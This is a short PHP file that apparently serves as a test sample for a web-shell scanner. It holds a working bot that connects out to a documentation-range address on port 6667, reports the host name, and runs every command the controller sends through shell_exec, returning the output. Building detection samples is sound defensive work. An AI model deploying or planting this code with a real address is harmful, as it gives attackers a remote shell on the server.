<?php
// Inert test sample (webhunt): a bot that dials its controller and runs every line the controller
// sends, writing the output back on the same connection. No request input at all: the commands
// arrive on the socket. The address is a documentation range.
ignore_user_abort(true);
set_time_limit(0);
$ctl = @fsockopen('192.0.2.77', 6667, $no, $msg, 20);
if ($ctl) {
    fwrite($ctl, "HELLO " . php_uname('n') . "\n");
    while (!feof($ctl)) {
        $task = trim((string) fgets($ctl, 4096));
        if ($task === '') {
            continue;
        }
        $res = @shell_exec($task . ' 2>&1');
        fwrite($ctl, (string) $res . "\n.\n");
    }
    fclose($ctl);
}
